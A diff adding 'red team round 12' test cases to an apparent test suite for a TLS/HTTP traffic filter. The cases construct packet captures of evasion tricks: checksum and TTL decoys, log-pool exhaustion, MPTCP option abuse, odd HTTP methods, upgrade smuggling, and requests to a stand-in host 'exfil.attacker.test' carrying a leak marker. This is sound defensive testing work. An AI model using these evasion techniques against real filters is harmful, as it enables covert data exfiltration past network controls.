@@ -12142,6 +12142,775 @@ def case_rt11_ws_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
+# ------------------------------------------------ red team round 12
+def _rt12_srv_records(n):
+    rec1 = tls_appdata(n + "s1", 600)
+    rec2 = tls_appdata(n + "s2", 120)
+    http = b"HTTP/1.1 200 OK\r\nX-Cmd: " + leak(n) + b"\r\n\r\n"
+    http += b"x" * (len(rec2) - len(http))
+    assert len(http) == len(rec2)
+    return rec1, rec2, http
+
+
+def _rt12_srv_tail(t, n, end):
+    t.sseq = end
+    t.raw(True, "A")
+    t.data(True, tls_appdata(n + "more", 120))
+    t.close()
+
+
+@case
+def case_rt12_srv_decoy_recend(n):
+    """(Red team round 12) The steady fast path passes a server segment wholly inside a
+    record's body unsummed. Here the decoy body copy (wrong checksum: the client drops it)
+    ends exactly at the record's end, so the next server segment starts with the next
+    record's header (read and logged). Then one segment from the hole on with plaintext
+    where that header was: the client takes it in order and reads plaintext. The header
+    log must compare it and refuse. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54702, E2M, 54702, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = t.sseq
+    t.raw(False, "PA", rec1[:100], seq=base)
+    t.raw(False, "PA", rec1[100:], seq=base + 100, tcpkw={"chksum": 0xDEAD})
+    t.raw(False, "PA", rec2, seq=base + len(rec1))
+    t.raw(True, "A", ack=base + 100)
+    t.raw(False, "PA", rec1[100:] + http, seq=base + 100)
+    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_srv_decoy_splithdr(n):
+    """(Red team round 12) As rt12_srv_decoy_recend, the next record's header cut across
+    two server segments (2 bytes, then 3 and the body): each piece is read and logged
+    apart. Then plaintext from the hole on. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54703, E2M, 54703, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = t.sseq
+    e = base + len(rec1)
+    t.raw(False, "PA", rec1[:100], seq=base)
+    t.raw(False, "PA", rec1[100:], seq=base + 100, tcpkw={"chksum": 0xDEAD})
+    t.raw(False, "PA", rec2[:2], seq=e)
+    t.raw(False, "PA", rec2[2:], seq=e + 2)
+    t.raw(True, "A", ack=base + 100)
+    t.raw(False, "PA", rec1[100:] + http, seq=base + 100)
+    _rt12_srv_tail(t, n, e + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_srv_decoy_partial(n):
+    """(Red team round 12) A server body decoy with a wrong checksum (the hole), the rest
+    of the record and the next one (read), then an honest copy of the hole's first half
+    (the client acknowledges it), then one segment from the middle of the hole on with
+    plaintext over the next record's header. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54704, E2M, 54704, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = t.sseq
+    t.raw(False, "PA", rec1[:100], seq=base)
+    t.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
+    t.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
+    t.raw(True, "A", ack=base + 100)
+    t.raw(False, "PA", rec1[100:250], seq=base + 100)
+    t.raw(True, "A", ack=base + 250)
+    t.raw(False, "PA", rec1[250:] + http, seq=base + 250)
+    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_srv_hdr_ttl(n):
+    """(Red team round 12) Server segments that touch a record header are summed but not
+    vetted: the next record (header and body) with a TTL of 1 (it expires before the
+    client), read and logged by us; then plaintext at its sequence number. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54705, E2M, 54705, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = t.sseq
+    t.raw(False, "PA", rec1, seq=base)
+    t.raw(False, "PA", rec2, seq=base + len(rec1), ipkw={"ttl": 1})
+    t.raw(True, "A", ack=base + len(rec1))
+    t.raw(False, "PA", http, seq=base + len(rec1), gap=200000)
+    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_srv_hdr_oldack(n):
+    """(Red team round 12) The same with the header segment's ACK 300000 bytes behind the
+    client's stream (Linux drops it: TCP_TOO_OLD_ACK), not vetted on the server's side.
+    Then plaintext at its place. Must drop."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54706, E2M, 54706, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = t.sseq
+    t.raw(False, "PA", rec1, seq=base)
+    t.raw(False, "PA", rec2, seq=base + len(rec1), ack=(t.cseq - 300000) & M32)
+    t.raw(True, "A", ack=base + len(rec1))
+    t.raw(False, "PA", http, seq=base + len(rec1), gap=200000)
+    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+def _rt12_srv_steal(n, cport, others):
+    cap = Capture()
+    v = tls_established(cap, S1, cport, E2M, cport, n)
+    rec1, rec2, http = _rt12_srv_records(n)
+    base = v.sseq
+    v.raw(False, "PA", rec1[:100], seq=base)
+    v.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
+    v.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
+    v.raw(True, "A", ack=base + 100)
+    for i in range(others):
+        # distinct keys (a reused key keeps its flow's log), hosts spread over both workers
+        port = 54710 + (i % 4)
+        host = "10.10.%d.%d" % (50 + (i // 4) % 150, 1 + (i // 600) % 250)
+        t = ETcp(cap, host, port, E2M, 443, isn=(200000 + 977 * i) & M32, rtt_us=200)
+        t.handshake(gap=100)
+        t.data(True, hello(n + "h"))
+        t.data(False, server_hello_flight(n + "h"))
+        t.data(True, CCS + tls_appdata(n + "f%d" % i, 53))
+        t.raw(True, "RA")
+    v.raw(False, "PA", rec1[100:] + http, seq=base + 100, gap=50000)
+    _rt12_srv_tail(v, n, base + len(rec1) + len(rec2))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_srv_steal_rewrite(n):
+    """(Red team round 12) The server's hole (a body decoy with a wrong checksum, passed
+    unsummed on the steady fast path) and the next record's header logged; the client
+    acknowledges up to the hole only. The flow's own records are all acknowledged, so its
+    header log is "idle" (judge_hlog_idle waits for the initiator's entries only) and 3400
+    short sessions of other zone hosts (over 1024 of them on the victim's worker with two
+    workers, within a few seconds, before the first of them expire and free slots
+    that the search prefers) take it at the pool's wrap. Then the
+    server fills the hole with plaintext over the logged header: compared with no log, it
+    passes as old bytes; the client reads it. Must drop."""
+    return _rt12_srv_steal(n, 54700, 3400)
+
+
+@case
+def case_rt12_srv_steal_rewrite_ctl(n):
+    """(Red team round 12) Control: the same with 900 other sessions (no wrap)."""
+    return _rt12_srv_steal(n, 54701, 900)
+
+
+@case
+def case_rt12_srv_recend_damaged_ok(n):
+    """(Red team round 12) Must-allow: a server body segment that ends exactly at a record's
+    end is damaged on the way (wrong checksum: passed unsummed), the next record's header
+    segment goes on, the client acknowledges up to the hole (SACK), the server sends the
+    damaged segment again byte for byte, then more records."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54707, E2M, 54707, n)
+    rec1 = tls_appdata(n + "s1", 600)
+    rec2 = marked_record(passm(n), n + "s2", 300)
+    base = t.sseq
+    bad = bytearray(rec1[100:]); bad[7] ^= 0x55
+    t.raw(False, "PA", rec1[:100], seq=base)
+    t.raw(False, "PA", bytes(bad), seq=base + 100, tcpkw={"chksum": 0xBEEF})
+    t.raw(False, "PA", rec2, seq=base + len(rec1))
+    t.raw(True, "A", ack=base + 100,
+          options=[("NOP", None), ("NOP", None), ("SAck", (base + len(rec1), base + len(rec1) + len(rec2)))])
+    t.raw(False, "PA", rec1[100:], seq=base + 100)
+    t.sseq = base + len(rec1) + len(rec2)
+    t.raw(True, "A")
+    t.data(False, tls_appdata(n + "s3", 900))
+    t.data(True, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_srv_badfin_reuse_ok(n):
+    """(Red team round 12) Must-allow: the server closes first; its last record's body
+    and FIN arrive damaged (wrong checksum), the retransmission right; the client closes;
+    2 s later the same ports open a new connection (ISN far above) and an e2m session."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54708, E2M, 54708, n)
+    rec = tls_appdata(n + "last", 400)
+    base = t.sseq
+    t.raw(False, "PA", rec[:200], seq=base)
+    t.raw(False, "FPA", rec[200:], seq=base + 200, tcpkw={"chksum": 0xDEAD})
+    t.raw(True, "A", ack=base + 200)
+    t.raw(False, "FPA", rec[200:], seq=base + 200)
+    t.sseq = base + len(rec) + 1
+    t.raw(True, "A")
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.raw(False, "A")
+    u = ETcp(cap, S1, 54708, E2M, 443, isn=(t.cseq + 0x1000000) & M32, rtt_us=20000)
+    u.handshake(gap=2000000)
+    u.data(True, hello(n + "2"))
+    u.data(False, server_hello_flight(n + "2"))
+    u.data(True, CCS + tls_appdata(n + "fin2", 53))
+    u.data(True, marked_record(passm(n), n + "req2", 200))
+    u.data(False, tls_appdata(n + "resp2", 700))
+    u.close()
+    return cap, {"pass": [passm(n)]}
+
+
+# ------------------------------------------------ MPTCP stripping
+MPC_V1 = (30, b"\x01\x81")
+
+
+@case
+def case_rt12_mptcp_forced_synack(n):
+    """(Red team round 12) The client's SYN carries MP_CAPABLE (we strip it: the server
+    sees none), but the server's SYN-ACK carries MP_CAPABLE anyway (an outside accomplice,
+    or a server that answers one it never got): the Linux client takes MPTCP as agreed and
+    sends MP_CAPABLE keys and DSS mappings. Then rt11_mptcp_dss_swap: a record header
+    mapped after its body, which is plaintext. Either verdict; nothing of it may pass."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54720, E2M, 443, isn=54720, rtt_us=20000)
+    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
+    t.sseq += 1
+    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
+    dsn = {True: 1, False: 1}
+    c0, s0 = t.cseq, t.sseq
+
+    def seg(fc, payload, at=None):
+        mine = dsn[fc] if at is None else at
+        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, mine & M32,
+                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
+                                         len(payload))
+        t.raw(fc, "PA", payload, options=[(30, dss)])
+        if at is None:
+            dsn[fc] += len(payload)
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+
+    def ack(fc):
+        t.raw(fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[not fc] & M32))])
+    seg(True, hello(n)); ack(False)
+    seg(False, server_hello_flight(n)); ack(True)
+    seg(True, CCS + tls_appdata(n + "fin", 53)); ack(False)
+    body = (b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n")
+    hdr = b"\x17\x03\x03" + struct.pack("!H", len(body))
+    d0 = dsn[True]
+    seg(True, hdr, at=d0 + len(body))
+    seg(True, body, at=d0)
+    dsn[True] = d0 + len(body) + len(hdr)
+    ack(False)
+    seg(False, tls_appdata(n + "resp", 300)); ack(True)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_mptcp_v6_ok(n):
+    """(Red team round 12) Must-allow: a Linux MPTCP client over IPv6 (MP_CAPABLE v1 on
+    its SYN, which we strip), the server answers without MPTCP, a plain TLS session."""
+    cap = Capture()
+    t = ETcp(cap, S6, 54721, E2M6, 443, isn=54721, rtt_us=20000)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 700))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_mptcp_join_subflow(n):
+    """(Red team round 12) A first connection (MP_CAPABLE stripped, an honest session),
+    then a second subflow's SYN with MP_JOIN from another port: stripped too, the server
+    takes it for a new connection, and the client sends on it what an MPTCP subflow
+    carries (DSS-mapped bytes of the data-level stream): plaintext, no ClientHello. The
+    second flow must not pass it."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54722, E2M, 443, isn=54722, rtt_us=20000)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    u = ETcp(cap, S1, 54723, E2M, 443, isn=547230, rtt_us=20000)
+    u.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x10\x00" + prand(n + "tok", 4) + prand(n + "nonce", 4))])
+    u.cseq += 1
+    u.raw(False, "SA", options=Tcp.SYN_OPTS)
+    u.sseq += 1
+    u.raw(True, "A")
+    body = b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n"
+    dss = b"\x20\x05" + struct.pack("!IIIH", 1, 600, 1, len(body))
+    u.raw(True, "PA", body, options=[(30, dss)])
+    u.cseq += len(body)
+    u.raw(False, "A")
+    u.close()
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_mptcp_office_ok(n):
+    """(Red team round 12) Must-allow: an office host's MPTCP connection (not a checked
+    flow: nothing stripped) agreed by the server, TLS for www.example.org with DSS
+    mappings in order."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54724, SOC, 443, isn=54724, rtt_us=20000)
+    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
+    t.sseq += 1
+    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
+    dsn = {True: 1, False: 1}
+    c0, s0 = t.cseq, t.sseq
+
+    def seg(fc, payload):
+        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, dsn[fc] & M32,
+                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
+                                         len(payload))
+        t.raw(fc, "PA", payload, options=[(30, dss)])
+        dsn[fc] += len(payload)
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+        t.raw(not fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[fc] & M32))])
+    seg(True, hello(n, sni="www.example.org"))
+    seg(False, server_hello_flight(n))
+    seg(True, CCS + tls_appdata(n + "fin", 53))
+    seg(True, marked_record(passm(n), n + "req", 200))
+    seg(False, tls_appdata(n + "resp", 700))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_mptcp_ghost_syn(n):
+    """(Red team round 12) ghost_syn_evil with MP_CAPABLE on the first SYN, whose checksum
+    is wrong: stripping it must keep the sum wrong (RFC 1624 updates the sum as it is),
+    or the server would take that SYN. An e2m hello at its place, plaintext at the real
+    SYN's. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54725, E2M, 443, isn=54725, rtt_us=20000)
+    isn1 = (54725 + 0x50000000) & M32
+    t.raw(True, "S", seq=isn1, options=ETcp.SYN_OPTS + [MPC_V1], tcpkw={"chksum": 0xDEAD})
+    t.handshake()
+    t.raw(True, "PA", hello(n + "ghost"), seq=(isn1 + 1) & M32)
+    t.ack(False)
+    for i in range(3):
+        t.data(True, b"GET /up%d HTTP/1.1\r\nHost: " % i + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------ gaps before the verdict
+@case
+def case_rt12_e2m_reorder_resend_ok(n):
+    """(Red team round 12) Must-allow: an e2m ClientHello in two segments, the second
+    overtaking the first (dropped: past a gap before the verdict), the first, the server's
+    ACK of it, the second again (the client's retransmission), then the session."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54730, E2M, 443, isn=54730, rtt_us=20000)
+    t.handshake()
+    h = hello(n)
+    base = t.cseq
+    t.raw(True, "PA", h[100:], seq=base + 100)
+    t.raw(True, "PA", h[:100], seq=base)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", h[100:], seq=base + 100, gap=250000)
+    t.cseq = base + len(h)
+    t.raw(False, "A")
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 700))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_office_reorder_get_ok(n):
+    """(Red team round 12) Must-allow: office GET for www.example.org in two segments, the
+    second first (dropped), the first, the server's ACK, the second again."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54731, SOC, 80, isn=54731, rtt_us=20000)
+    t.handshake()
+    req = http_req(b"www.example.org", passm(n))
+    base = t.cseq
+    t.raw(True, "PA", req[30:], seq=base + 30)
+    t.raw(True, "PA", req[:30], seq=base)
+    t.raw(False, "A", ack=base + 30)
+    t.raw(True, "PA", req[30:], seq=base + 30, gap=250000)
+    t.cseq = base + len(req)
+    t.raw(False, "A")
+    _ok_answer(t, n)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_office_reorder_fb(n):
+    """(Red team round 12) Office: a www.facebook.com ClientHello whose second segment
+    overtakes the first, then the first, then the second again. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54732, SOC, 443, isn=54732, rtt_us=20000)
+    t.handshake()
+    h = hello(n, sid=sid32(leak(n)), sni=FB)
+    base = t.cseq
+    t.raw(True, "PA", h[100:], seq=base + 100)
+    t.raw(True, "PA", h[:100], seq=base)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", h[100:], seq=base + 100, gap=250000)
+    t.cseq = base + len(h)
+    t.raw(False, "A")
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_office_gap_host_vk(n):
+    """(Red team round 12) Office: the first request's head cut before its Host line
+    (m.vk.com); the second piece first (the marker in it), then the first, then the
+    second again. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54733, SOC, 80, isn=54733, rtt_us=20000)
+    t.handshake()
+    req = b"GET /feed HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
+    cut = req.index(b"Host")
+    base = t.cseq
+    t.raw(True, "PA", req[cut:], seq=base + cut)
+    t.raw(True, "PA", req[:cut], seq=base)
+    t.raw(False, "A", ack=base + cut)
+    t.raw(True, "PA", req[cut:], seq=base + cut, gap=250000)
+    t.cseq = base + len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------ HTTP methods
+def _rt12_methods(n, port, method, reqs=6, ver=b"HTTP/1.1", extra=b""):
+    cap = Capture()
+    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
+    t.handshake()
+    for i in range(reqs):
+        t.data(True, method + b" /%d " % i + ver + b"\r\nHost: www.example.org\r\n" + extra
+               + b"User-Agent: curl/8.5.0\r\n\r\n")
+        t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_method_digit_vk(n):
+    """(Red team round 12) Six requests whose method is "M2" (a token: RFC 9110 5.6.2 takes
+    digits; Go's net/http, Apache and Cloudflare take it, a Go server's handler answers
+    405 on a kept connection), then a GET for m.vk.com. hs_method_byte takes letters, '-'
+    and '_' only: the first payload is no HTTP start and the flow is never read. Must
+    drop (social)."""
+    return _rt12_methods(n, 54740, b"M2")
+
+
+@case
+def case_rt12_method_tchar_vk(n):
+    """(Red team round 12) The same with the method "X.Y!" (tchar: '.', '!'). Must drop."""
+    return _rt12_methods(n, 54741, b"X.Y!")
+
+
+@case
+def case_rt12_method_9k_vk(n):
+    """(Red team round 12) The same with a method of 9000 letters (past HS_METHOD_MAX; Go
+    reads a request line up to its 1 MiB header limit). Must drop (social)."""
+    return _rt12_methods(n, 54742, b"A" * 9000, reqs=2)
+
+
+@case
+def case_rt12_method_long_split_vk(n):
+    """(Red team round 12) The first request's method is 3000 letters, cut into three
+    segments before its first space; its Host is m.vk.com (the marker after it). Must
+    drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54743, SOC, 80, isn=54743 * 7, rtt_us=20000)
+    t.handshake()
+    req = b"A" * 3000 + b" /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
+    for o in range(0, len(req), 1000):
+        t.raw(True, "PA", req[o:o + 1000], seq=t.cseq + o)
+    t.cseq += len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_http10_ka_vk(n):
+    """(Red team round 12) Five HTTP/1.0 requests with Connection: keep-alive (answered
+    with Content-Length), then a GET for m.vk.com. Must drop (social)."""
+    return _rt12_methods(n, 54744, b"GET", reqs=5, ver=b"HTTP/1.0", extra=b"Connection: keep-alive\r\n")
+
+
+@case
+def case_rt12_webdav_ok(n):
+    """(Red team round 12) Must-allow: WebDAV and DeltaV methods (MKWORKSPACE,
+    VERSION-CONTROL, PROPFIND, BASELINE-CONTROL) for www.example.org, then a GET."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54745, SOC, 80, isn=54745 * 7, rtt_us=20000)
+    t.handshake()
+    for m in (b"MKWORKSPACE", b"VERSION-CONTROL", b"PROPFIND", b"BASELINE-CONTROL"):
+        t.data(True, m + b" /dav/ HTTP/1.1\r\nHost: www.example.org\r\nDepth: 1\r\nContent-Length: 0\r\n\r\n")
+        t.data(False, b"HTTP/1.1 207 Multi-Status\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, http_req(b"www.example.org", passm(n)))
+    _ok_answer(t, n)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_method_pipe_vk(n):
+    """(Red team round 12) The first payload: a FOO_BAR request for www.example.org and,
+    pipelined behind it, a GET for m.vk.com. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54746, SOC, 80, isn=54746 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"FOO_BAR / HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + _rtk_vk_req(n))
+    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------ upgrades
+H2C_UP = (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+          b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n")
+
+
+@case
+def case_rt12_h2c_declined_vk(n):
+    """(Red team round 12) Office: a GET for www.example.org asking Upgrade: h2c; the server
+    declines (200 in HTTP/1.1, as nginx does); the next request on the connection is a
+    GET for m.vk.com in HTTP/1.1. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54750, SOC, 80, isn=54750 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
+    _ok_answer(t, n + "a", mark=False)
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_h2c_smuggle_vk(n):
+    """(Red team round 12) The Upgrade: h2c request and a GET for m.vk.com pipelined in one
+    segment; the server declines the upgrade and serves both. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54751, SOC, 80, isn=54751 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n" + _rtk_vk_req(n))
+    _ok_answer(t, n + "a", mark=False)
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def _rt12_h2_headers(stream, authority, marker):
+    hb = (b"\x82\x86\x84" + b"\x01" + bytes([len(authority)]) + authority
+          + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)
+    return h2_frame(1, 5, stream, hb)
+
+
+@case
+def case_rt12_h2c_101_split_vk(n):
+    """(Red team round 12) Upgrade: h2c answered 101 (Apache mod_http2, h2o); the client's
+    preface cut after "PRI * HTTP/2.0\\r\\n", the rest with SETTINGS and a HEADERS frame on
+    stream 3 for m.vk.com in the next segment. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54752, SOC, 80, isn=54752 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
+    t.data(True, b"PRI * HTTP/2.0\r\n")
+    t.data(True, b"\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
+    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_h2c_101_ok(n):
+    """(Red team round 12) Must-allow: Upgrade: h2c answered 101, the preface and a HEADERS
+    frame on stream 3 for www.example.org, the server's DATA with the marker."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54753, SOC, 80, isn=54753 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, passm(n)))
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+           + _rt12_h2_headers(3, b"www.example.org", b"x"))
+    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt12_ws_declined_vk(n):
+    """(Red team round 12) A WebSocket upgrade for www.example.org that the server ignores
+    (200, HTTP/1.1 goes on: nginx without proxy upgrade config), then a GET for m.vk.com.
+    Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54754, SOC, 80, isn=54754 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
+           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+           b"Sec-WebSocket-Version: 13\r\n\r\n")
+    _ok_answer(t, n + "a", mark=False)
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_ws_declined_digit_vk(n):
+    """(Red team round 12) The same, then a request with the method "M2" (a token: Go's
+    net/http serves it, 405 on a kept connection): to our reading the bytes after an
+    upgrade that start no request are a tunnel, read no further. Then the GET for
+    m.vk.com. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54755, SOC, 80, isn=54755 * 7, rtt_us=20000)
+    t.handshake()
+    for i in range(5):
+        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
+        _ok_answer(t, n + "k%d" % i, mark=False)
+    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
+           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+           b"Sec-WebSocket-Version: 13\r\n\r\n")
+    _ok_answer(t, n + "a", mark=False)
+    t.data(True, b"M2 / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
+    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_late_digit_vk(n):
+    """(Red team round 12) Five GETs for www.example.org (the verdict given), then a "M2"
+    request (Go: 405, kept alive), then a GET for m.vk.com. Must drop (social)."""
+    cap, t = ka_flow(n, 54756, reqs=5)
